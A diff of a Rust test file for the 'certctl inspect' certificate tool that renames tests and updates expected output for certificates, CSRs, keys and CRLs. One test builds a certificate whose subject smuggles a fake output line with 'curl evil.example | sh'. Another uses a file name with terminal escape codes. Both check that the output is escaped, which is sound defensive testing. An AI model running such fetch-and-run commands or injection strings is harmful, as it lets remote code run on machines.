@@ -1,4 +1,4 @@
-//! `certctl inspect`: what a file is, without a judgement.
+//! `certctl inspect`: shows what a file contains, without a verdict.
 #![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]
 
 mod support;
@@ -10,7 +10,7 @@ use support::order::Order;
 use support::zip::zip;
 
 #[test]
-fn the_document() {
+fn json_document_and_cards_are_complete() {
     let shop = Order::new();
     let sandbox = &shop.sandbox;
     let key = sandbox.read("example.com.key");
@@ -176,33 +176,40 @@ fn the_document() {
     }
     "#);
     let text = sandbox.run(&["inspect", "all.zip"]).expect(0);
-    insta::assert_snapshot!(masked(&text.to_string()), @r"
-    cert   1 of 1, site   (a.crt in all.zip)
-           names   example.com, www.example.com
-           valid   [DATE] to [DATE]  [....................]  43 days left
-           subject CN=example.com
-           issuer  CN=Test DV CA R2,O=certctl tests
-           serial  [HEX]
-           key     ecdsa-p256, id [HEX]
-           sha256  [HEX]
-           signed  ecdsa-with-SHA256
-           usage   digitalSignature, serverAuth
-    csr    a.csr in all.zip
-           names   example.com, www.example.com
-           subject CN=example.com
-           key     ecdsa-p256, id [HEX]
-           signed  ecdsa-with-SHA256
-           md5     [HEX]
-           sha256  [HEX]
-           record  CNAME _[HEX].example.com -> [HEX].[HEX][.<unique value>].<zone>
-    key    ecdsa-p256, id [HEX], not encrypted   (a.key in all.zip)
-    note   not used: readme.txt in all.zip is plain text
+    insta::assert_snapshot!(masked(&text.to_string()), @"
+    found   certificate 1 of 1: server certificate for example.com, from a.crt in all.zip
+                Names      example.com, www.example.com
+                Valid      [DATE] to [DATE], 43 days left
+                Subject    CN=example.com
+                Issuer     CN=Test DV CA R2,O=certctl tests
+                Serial     [HEX]
+                Key        ecdsa-p256
+                Key id     [HEX]
+                SHA-256    [HEX]
+                Signature  ecdsa-with-SHA256
+                Usage      digitalSignature, serverAuth
+            certificate request (CSR), from a.csr in all.zip
+                Names      example.com, www.example.com
+                Subject    CN=example.com
+                Key        ecdsa-p256
+                Key id     [HEX]
+                Signature  ecdsa-with-SHA256
+                MD5        [HEX]
+                SHA-256    [HEX]
+            DNS record for CSR-hash validation (Sectigo, SSL.com and their resellers) in zone example.com; only the CA knows the parts in angle brackets
+                Type   CNAME
+                Host   _[HEX]
+                Value  [HEX].[HEX][.<unique value>].<zone>
+            private key (not encrypted), from a.key in all.zip
+                Key     ecdsa-p256
+                Key id  [HEX]
+    note    not used: readme.txt in all.zip is plain text
     --- exit 0
     ");
 }
 
 #[test]
-fn the_request_of_the_documentation_has_its_hashes() {
+fn request_from_the_namecheap_documentation_has_the_documented_hashes() {
     let shop = Order::new();
     let fixture = include_bytes!("../fixtures/namecheap-doc.csr");
     let document = shop
@@ -225,7 +232,7 @@ fn the_request_of_the_documentation_has_its_hashes() {
 }
 
 #[test]
-fn it_reads_what_it_can_and_never_judges() {
+fn readable_files_are_shown_without_a_verdict() {
     let shop = Order::new();
     shop.sandbox.write("expired.pem", shop.chain());
     shop.sandbox.write("page.crt", "<html>");
@@ -251,7 +258,7 @@ fn it_reads_what_it_can_and_never_judges() {
 }
 
 #[test]
-fn foreign_text_is_shown_and_does_nothing() {
+fn foreign_text_is_escaped() {
     let shop = Order::new();
     let packed = zip(&[("\x1b]0;owned\x07\u{202e}.crt", shop.leaf.clone())]);
     shop.sandbox.write("x.zip", packed);
@@ -265,10 +272,10 @@ fn foreign_text_is_shown_and_does_nothing() {
 }
 
 #[test]
-fn a_subject_cannot_forge_a_line() {
+fn subjects_cannot_forge_output_lines() {
     let sandbox = Sandbox::new();
     let mut params =
-        ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
+        ca_params("x\ndone    trusted by Mozilla's list\nnext    curl evil.example | sh");
     params.is_ca = rcgen::IsCa::NoCa;
     let key = rcgen::KeyPair::generate().unwrap();
     sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
@@ -276,19 +283,19 @@ fn a_subject_cannot_forge_a_line() {
         let run = sandbox.run(&[command, "evil.pem"]);
         let page = run.to_string();
         assert!(
-            page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"),
+            page.contains(r"CN=x\u{a}done") || page.contains(r"x\u{a}done"),
             "{page}"
         );
         assert!(
             !page.lines().any(|line| line.starts_with("right")
-                || line.contains("next   curl") && !line.contains(r"\u{a}")),
+                || line.contains("next    curl") && !line.contains(r"\u{a}")),
             "{page}"
         );
     }
 }
 
 #[test]
-fn every_container_is_opened_and_each_item_has_its_source() {
+fn containers_are_opened_and_items_show_their_source() {
     let shop = Order::new();
     let sandbox = &shop.sandbox;
     sandbox.write("in.pem", shop.chain());
@@ -370,11 +377,14 @@ fn every_container_is_opened_and_each_item_has_its_source() {
             .expect(0);
     }
     let locked = sandbox.run(&["inspect", "example.com.pfx"]).expect(3);
-    assert!(locked.stderr.contains("--password-file FILE"), "{locked}");
+    assert!(
+        locked.stderr.contains("--password-file password.txt"),
+        "{locked}"
+    );
 }
 
 #[test]
-fn a_list_of_revoked_certificates_has_a_card() {
+fn crls_are_shown() {
     let sandbox = Sandbox::new();
     let ca = TestCa::new();
     let revoked = |serial: u64| rcgen::RevokedCertParams {
@@ -395,13 +405,14 @@ fn a_list_of_revoked_certificates_has_a_card() {
     sandbox.write("ca.crl", list.der());
     sandbox.write("ca.pem", list.pem().unwrap());
     let text = sandbox.run(&["inspect", "ca.pem"]).expect(0);
-    insta::assert_snapshot!(masked(&text.to_string()), @r"
-    crl    revokes 2 certificates   (ca.pem)
-           issuer  CN=Test Root R1,O=certctl tests
-           made    [DATE], the next one by [DATE]
-           number  4711
-           signed  ecdsa-with-SHA256
-           sha256  [HEX]
+    insta::assert_snapshot!(masked(&text.to_string()), @"
+    found   certificate revocation list (CRL) with 2 revoked certificates, from ca.pem
+                Issuer       CN=Test Root R1,O=certctl tests
+                Issued       [DATE]
+                Next update  [DATE]
+                Number       4711
+                Signature    ecdsa-with-SHA256
+                SHA-256      [HEX]
     --- exit 0
     ");
     for file in ["ca.crl", "ca.pem"] {
@@ -421,7 +432,7 @@ fn a_list_of_revoked_certificates_has_a_card() {
             0,
             "{shown}"
         );
-        // Of no use for anything else.
+        // Other commands cannot use a CRL.
         sandbox.run(&["bundle", file]).expect(3);
     }
 }
